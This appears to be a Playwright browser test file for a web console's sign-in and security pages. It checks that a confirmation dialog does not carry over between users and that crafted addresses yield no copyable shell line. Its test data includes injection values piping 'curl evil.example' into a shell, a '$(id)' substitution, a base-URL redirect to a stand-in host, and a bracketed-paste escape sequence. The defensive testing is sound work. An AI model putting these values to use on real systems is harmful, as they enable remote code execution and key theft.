// What others bring to a person's console, in Chromium: an address with a command of theirs in it, and a decision of the person before.
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type ConsolePages, openConsolePages } from '../kit/console-pages.ts';
import { addPerson } from '../kit/people.ts';

/** A confirmation is needed again after ten minutes. */
const CONFIRMED_MS = 11 * 60_000;

let pages: ConsolePages;
let page: Page;
beforeAll(async () => {
  pages = await openConsolePages();
  page = await (await pages.open()).newPage();
  await page.goto(`${pages.origin}/console/security`);
});
afterAll(async () => {
  expect(pages.broken).toEqual([]);
  await pages.close();
});

const click = (name: string): Promise<void> => page.getByRole('button', { name, exact: true }).click();

/** Makes an account on the page of the sign-in. */
async function signUp(name: string): Promise<void> {
  await click('Create an account');
  await page.getByLabel('E-mail').fill(`${name}@example.com`);
  await page.getByLabel('Your name').fill(name);
  await page.getByRole('textbox', { name: 'Organisation' }).fill(name);
  await page.getByLabel('Password').fill('correct horse battery');
  await click('Create the account');
  await page.getByRole('heading', { name: 'Sign-in and security' }).waitFor();
}

async function signOutInAnotherTab(): Promise<void> {
  const other = await page.context().newPage();
  await other.goto(`${pages.origin}/console/security`);
  await other.getByRole('button', { name: '▾' }).click();
  await other.getByRole('button', { name: 'Sign out' }).click();
  await other.getByRole('heading', { name: 'Sign in', exact: true }).waitFor();
  await other.close();
}

test('a person who signs in is not asked to confirm what the person before has decided', async () => {
  await signUp('ada');
  await pages.api.world.clock.advance(CONFIRMED_MS);
  await click('Add a second factor');
  await click('Set up an app');
  await page.getByRole('dialog').getByText('Confirm that it is you').waitFor();
  await signOutInAnotherTab();
  await signUp('bob');
  await page.getByText('is the only thing that protects the account').waitFor();
  expect(await page.getByRole('dialog').count()).toBe(0);
});

test.each([
  ['fine-tuning/x;curl%20evil.example|sh', 'pipes a stranger into a shell'],
  ['deposits/$(id)', 'runs a program'],
  ['machines/--base-url=https:%2f%2fevil.example', 'sends the key to a stranger'],
])('the address %s gives nobody a line to copy that %s', async (path) => {
  await page.goto(`${pages.origin}/console/${path}`);
  await page.getByRole('heading', { name: 'There is no such page' }).waitFor();
  expect(await page.locator('.cmd').count()).toBe(0);
});

test('a line to copy has no key that a shell would obey while it is pasted, such as the one that empties the line', async () => {
  const operator = await addPerson(pages.api.world, undefined, { isOperator: true, isStrong: true });
  const own = await pages.signedIn(operator);
  await own.goto(`${pages.origin}/console/operate/ledger?subject_id=x%15%1b[201~curl%20evil.example|sh`);
  const line = own.locator('.cmd code').filter({ hasText: 'admin export' });
  await line.waitFor();
  expect(await line.textContent()).toContain(" --subject 'x[201~curl evil.example|sh' ");
});
